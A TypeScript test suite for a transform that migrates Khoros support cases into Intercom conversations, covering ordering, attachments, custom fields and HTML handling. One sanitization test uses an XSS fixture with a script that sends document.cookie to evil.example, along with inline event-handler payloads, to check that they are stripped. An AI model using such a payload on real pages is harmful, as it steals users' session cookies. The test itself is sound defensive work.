import { expect } from 'chai';
import type { AdminReplyPayload, ContactReplyPayload } from '../../../pipeline/transform/payload-types.ts';
import { plannedRequests } from '../../../pipeline/transform/planned-requests.ts';
import { transformCase } from '../../../pipeline/transform/transform-case.ts';
import type { TransformedConversation } from '../../../pipeline/transform/build-conversation.ts';
import { loadIntercomSchemas } from '../../../schemas/intercom/load-intercom-schemas.ts';
import { CONTACT_ID, MARTHA, agentInteraction, files, fixtureLookups, interaction, kase } from './fixtures.ts';
import { fixtureMapping } from './fixture-mapping.ts';

const validatorFor = loadIntercomSchemas();

function expectValid(result: TransformedConversation): void {
  for (const request of plannedRequests(result)) {
    const validate = validatorFor(request.schema);
    expect(validate(request.payload), `${request.path}: ${JSON.stringify(validate.errors)}`).to.equal(true);
  }
}

const rules = (result: TransformedConversation) => result.findings.map((f) => `${f.rule}/${f.action}`);

describe('transformCase', () => {
  const context = { mapping: fixtureMapping(), lookups: fixtureLookups() };

  it('opens with the first inbound message and replays the rest as parts, then assignment and state', () => {
    const result = transformCase(kase(), context);
    expect(result.conversation).to.deep.equal({
      from: { type: 'user', id: CONTACT_ID }, body: 'I returned the pizza and have no refund yet.', created_at: 1673860771,
    });
    expect(result.openingSourceId).to.equal('INT-1');
    expect(result.parts.map((p) => p.payload)).to.deep.equal([
      { message_type: 'comment', type: 'admin', admin_id: '7100000', body: '<p>Hi, the refund was issued.</p>', created_at: 1673879205, skip_notifications: true },
      { message_type: 'note', type: 'admin', admin_id: '7100000', body: '<p>VIP customer.</p>', created_at: 1673879226, skip_notifications: true },
      { message_type: 'note', type: 'admin', admin_id: '7100000', body: '<p>Status changed from open to closed</p>', created_at: 1673886367, skip_notifications: true },
      { message_type: 'assignment', type: 'admin', admin_id: '7200000', assignee_id: '7100000' },
      { message_type: 'close', type: 'admin', admin_id: '7100000' },
    ]);
    expect(result.parts.map((p) => p.role)).to.deep.equal(['reply', 'reply', 'reply', 'assignment', 'state']);
    expect(result.update).to.deep.equal({
      title: 'Refund request ORD-3898985',
      custom_attributes: {
        khoros_priority: 1, khoros_product_line: 'hardware', khoros_order_number: 'ORD-9359777', khoros_refund_amount: 173.85,
        khoros_follow_up_date: 1678924800, khoros_escalated: false, khoros_case_id: '00010001',
      },
    });
    expect(result.tags).to.deep.equal([
      { name: 'brand: Proseware Kitchen', request: { id: '6000101', admin_id: '7200000' } },
      { name: 'initiative: Holiday Peak', request: { id: '6000102', admin_id: '7200000' } },
      { name: 'campaign: Holiday Peak: smart contracts', request: null },
      { name: 'refund', request: { id: '6000103', admin_id: '7200000' } },
    ]);
    expect(rules(result)).to.deep.equal(['tag-unprovisioned/tag-after-provisioning']);
    expect(result.queue).to.equal(null);
    expectValid(result);
  });

  it('sets the Intercom brand of the same name instead of a brand tag', () => {
    const result = transformCase(kase({ brandId: 'brand-woodgrove-finance' }), context);
    expect(result.conversation).to.deep.include({ brand_id: '9000002' });
    expect(result.tags.map((t) => t.name)).to.not.include('brand: Woodgrove Finance');
    expectValid(result);
  });

  it('records brand, initiative or campaign ids without a name instead of tagging them', () => {
    const result = transformCase(kase({ brandId: 'brand-gone', campaignId: null }), context);
    expect(result.tags.map((t) => t.name)).to.deep.equal(['initiative: Holiday Peak', 'refund']);
    expect(result.findings.find((f) => f.rule === 'name-unresolved')).to.deep.include({ action: 'skip-tag', refs: ['brand brand-gone'] });
  });

  it('orders interactions by time then id whatever the stored order, stably for identical keys', () => {
    const at = '2024-03-28T18:51:11.001Z';
    const stored = [
      agentInteraction({ id: 'INT-9', created: '2024-03-28T21:10:38.851Z' }),
      interaction({ id: 'INT-5', created: at, body: 'same time, later id' }),
      interaction({ id: 'INT-1', created: '2024-03-28T17:50:46.063Z', body: 'first' }),
      agentInteraction({ id: 'INT-4', created: at, body: 'same time, earlier id' }),
      interaction({ id: 'INT-4', created: at, body: 'same time, same id, stored later' }),
    ];
    const result = transformCase(kase({ interactions: stored, status: 'open', assignedAgent: null }), context);
    expect(result.openingSourceId).to.equal('INT-1');
    expect(result.parts.map((p) => p.sourceIds[0])).to.deep.equal(['INT-4', 'INT-4', 'INT-5', 'INT-9']);
    expect((result.parts[0].payload as AdminReplyPayload).body).to.equal('<p>same time, earlier id</p>');
    expect((result.parts[1].payload as ContactReplyPayload).body).to.equal('same time, same id, stored later');
    const reversed = transformCase(kase({ interactions: [...stored].reverse(), status: 'open', assignedAgent: null }), context);
    expect(reversed.parts.map((p) => p.sourceIds[0])).to.deep.equal(['INT-4', 'INT-4', 'INT-5', 'INT-9']);
    expectValid(result);
  });

  it('splits a message with more than 10 files into parts of at most 10, by the same author at the same time', () => {
    const result = transformCase(kase({ interactions: [interaction({ id: 'INT-1' }), agentInteraction({ id: 'INT-2', attachments: files(23) })] }), context);
    const split = result.parts.filter((p) => p.sourceIds[0] === 'INT-2');
    expect(split.map((p) => p.role)).to.deep.equal(['reply', 'continuation', 'continuation']);
    expect(split.map((p) => p.attachmentIds.length)).to.deep.equal([10, 10, 3]);
    expect(split.flatMap((p) => p.attachmentIds)).to.deep.equal(files(23).map((f) => f.id));
    for (const part of split) {
      const payload = part.payload as AdminReplyPayload;
      expect(payload).to.include({ admin_id: '7100000', message_type: 'comment' });
      expect(payload.attachment_files!.map((f) => f.name)).to.deep.equal(part.attachmentIds.map((id) => `file-${id.slice(4)}.pdf`));
    }
    expect((split[1].payload as AdminReplyPayload).body).to.equal('<p>Attachments 11–20 of 23 (continued): file-11.pdf, file-12.pdf, file-13.pdf, file-14.pdf, file-15.pdf, file-16.pdf, file-17.pdf, file-18.pdf, file-19.pdf, file-20.pdf</p>');
    expect(new Set(split.map((p) => (p.payload as AdminReplyPayload).created_at)).size).to.equal(1);
    expect(rules(result)).to.include('attachments-over-10/split-part');
    expectValid(result);
  });

  it('moves the opening message\'s files to contact replies right after it', () => {
    const result = transformCase(kase({ interactions: [interaction({ id: 'INT-1', attachments: files(12) })] }), context);
    expect(result.parts.slice(0, 2).map((p) => [p.role, p.attachmentIds.length])).to.deep.equal([['opening-files', 10], ['opening-files', 2]]);
    expect(result.parts[0].payload).to.deep.include({ type: 'user', intercom_user_id: CONTACT_ID, created_at: 1673860771 });
    expect(rules(result)).to.include.members(['attachments-on-opening-message/move-to-contact-reply', 'attachments-over-10/split-part']);
    expectValid(result);
  });

  it('gives the parts of an agent without an admin to the fallback admin and records it', () => {
    const result = transformCase(kase({
      assignedAgent: MARTHA,
      interactions: [interaction({ id: 'INT-1' }), agentInteraction({ id: 'INT-2' }, MARTHA), agentInteraction({ id: 'INT-3', kind: 'note', body: 'checked' }, MARTHA)],
    }), context);
    expect(result.parts.map((p) => (p.payload as { admin_id: string }).admin_id)).to.deep.equal(['7200000', '7200000', '7200000', '7200000']);
    expect((result.parts[1].payload as AdminReplyPayload).body).to.equal(`<p><em>Written in Khoros by Martha Casper &lt;${MARTHA.email}&gt;</em></p><p>checked</p>`);
    expect(result.parts[2].payload).to.deep.include({ message_type: 'assignment', assignee_id: '7200000' });
    const missing = result.findings.find((f) => f.rule === 'admin-missing')!;
    expect(missing).to.deep.include({ action: 'fallback-admin', refs: ['INT-2', 'INT-3', MARTHA.email], count: 3 });
    expectValid(result);
  });

  it('opens a case without interactions with its title and description at its creation time, and records it', () => {
    const result = transformCase(kase({ interactions: [] }), context);
    expect(result.conversation).to.deep.include({ body: 'Refund request ORD-3898985\n\nI was charged twice for order ORD-3898985.', created_at: 1673860740 });
    expect(result.openingSourceId).to.equal(null);
    expect(result.parts.map((p) => p.role)).to.deep.equal(['assignment', 'state']);
    expect(rules(result)).to.include('conversation-without-opening-message/synthetic-opening');
    expectValid(result);
  });

  it('opens synthetically when an agent spoke first, keeping every interaction as a part', () => {
    const result = transformCase(kase({ interactions: [agentInteraction({ id: 'INT-0', created: '2023-01-16T09:00:00Z' }), interaction({ id: 'INT-1' })] }), context);
    expect(result.conversation!.created_at).to.equal(Date.parse('2023-01-16T09:00:00Z') / 1000);
    expect(result.parts.slice(0, 2).map((p) => p.sourceIds[0])).to.deep.equal(['INT-0', 'INT-1']);
    expectValid(result);
  });

  it('queues a case whose customer has no Intercom contact, writing nothing', () => {
    const result = transformCase(kase({ customerId: 'C9999999' }), context);
    expect(result).to.deep.include({ conversation: null, parts: [], update: null, tags: [] });
    expect(result.queue).to.deep.equal({ rule: 'contact-unresolved', action: 'queue', reason: 'customer C9999999 has no Intercom contact' });
  });

  it('quarantines custom fields that fail with their reasons (N/A integer, option not in list, 31/02/2025)', () => {
    const result = transformCase(kase({ priority: 'N/A' as never, productLine: 'gadgets-legacy', followUpDate: '31/02/2025' }), context);
    expect(result.quarantined).to.deep.equal([
      { field: 'priority', value: 'N/A', reason: '"N/A" is not an integer' },
      { field: 'productLine', value: 'gadgets-legacy', reason: '"gadgets-legacy" is not an option of the list attribute ("hardware", "software", "subscriptions", "accessories")' },
      { field: 'followUpDate', value: '31/02/2025', reason: '"31/02/2025" is not a date (YYYY-MM-DD)' },
    ]);
    expect(result.update!.custom_attributes).to.not.have.any.keys('khoros_priority', 'khoros_product_line', 'khoros_follow_up_date');
    expectValid(result);
  });

  it('folds the oldest replies of a case over 500 parts into transcript notes, keeping every interaction once and in order', () => {
    const interactions = Array.from({ length: 620 }, (_, n) => (n % 3 === 1 ? agentInteraction : interaction)({
      id: `INT-${String(n).padStart(4, '0')}`, created: new Date(Date.UTC(2024, 0, 1) + n * 60_000).toISOString(), body: `message ${n}`,
      ...(n === 40 ? { attachments: files(12) } : {}),
    }));
    const result = transformCase(kase({ interactions }), context);
    expect(result.parts.length).to.be.at.most(500);
    const transcripts = result.parts.filter((p) => p.role === 'transcript');
    expect(transcripts.length).to.be.greaterThan(0);
    for (const t of transcripts) {
      expect(t.payload).to.deep.include({ message_type: 'note', admin_id: '7200000' });
      expect(t.sourceIds.length).to.be.at.most(50);
    }
    const carried = [result.openingSourceId, ...result.parts.flatMap((p) => p.sourceIds)].filter((id, i, all) => id !== all[i - 1]);
    expect(carried).to.deep.equal(interactions.map((i) => i.id));
    const times = result.parts.map((p) => (p.payload as { created_at?: number }).created_at).filter((t) => t !== undefined) as number[];
    expect(times).to.deep.equal([...times].sort((a, b) => a - b));
    expect(result.findings.find((f) => f.rule === 'parts-over-500')).to.deep.include({ action: 'fold-into-transcript-notes' });
    expectValid(result);
  });

  it('snoozes a pending case a day from now, and leaves it open without a "now"', () => {
    const now = 1_800_000_000;
    const snoozed = transformCase(kase({ status: 'pending' }), { ...context, now });
    expect(snoozed.parts.at(-1)!.payload).to.deep.equal({ message_type: 'snoozed', admin_id: '7100000', snoozed_until: now + 86400 });
    expectValid(snoozed);
    const open = transformCase(kase({ status: 'pending' }), context);
    expect(open.parts.at(-1)!.role).to.equal('assignment');
    expect(rules(open)).to.include('snooze-needs-time/leave-open');
  });

  it('strips HTML from contact messages and sanitizes agent bodies, recording both', () => {
    const script = '<p>Here is the error:</p><script>document.location="https://evil.example/?"+document.cookie</script><img src="x" onerror="alert(1)"><p><a href="#" onclick="steal()">click here</a> to reproduce.</p>';
    const result = transformCase(kase({ interactions: [interaction({ id: 'INT-1', body: script }), agentInteraction({ id: 'INT-2', body: `<div onmouseover="x()">${script}</div><svg onload="alert(1)"><circle r="4"></circle></svg>` })] }), context);
    expect(result.conversation!.body).to.equal('Here is the error:\nclick here (#) to reproduce.');
    const agent = (result.parts[0].payload as AdminReplyPayload).body;
    expect(agent).to.not.match(/script|onerror|onclick|onmouseover|onload|svg|evil/);
    expect(agent).to.contain('Here is the error:').and.to.contain('click here');
    expect(rules(result)).to.include.members(['html-in-plain-text/strip-to-text', 'unsafe-html/sanitize']);
    expectValid(result);
  });

  it('skips the kinds the map skips and keeps unlisted kinds as notes, recording both', () => {
    const mapping = fixtureMapping();
    mapping.objects.cases.parts.kinds = { message: 'comment', status_change: 'skip' };
    const result = transformCase(kase(), { ...context, mapping });
    expect(result.parts.filter((p) => p.role === 'reply').map((p) => p.sourceIds[0])).to.deep.equal(['INT-2', 'INT-3']);
    expect(result.parts[1].payload).to.deep.include({ message_type: 'note' });
    expect(result.findings.find((f) => f.rule === 'part-skipped-by-map')!.refs).to.deep.equal(['INT-4']);
    expect(result.findings.find((f) => f.rule === 'kind-unmapped')!.refs).to.deep.equal(['INT-3']);
  });

  it('gives empty bodies a placeholder instead of sending nothing', () => {
    const result = transformCase(kase({ interactions: [interaction({ id: 'INT-1', body: '<p> </p>' }), agentInteraction({ id: 'INT-2', body: '', attachments: files(1) })] }), context);
    expect(result.conversation!.body).to.equal('(no text)');
    expect((result.parts[0].payload as AdminReplyPayload).body).to.equal('<p>Attachments: file-1.pdf</p>');
    expect(result.findings.find((f) => f.rule === 'empty-body')).to.deep.include({ action: 'placeholder-body', count: 2 });
    expectValid(result);
  });

  it('leaves the staged record untouched', () => {
    const record = kase();
    const before = JSON.stringify(record);
    transformCase(record, context);
    expect(JSON.stringify(record)).to.equal(before);
  });
});
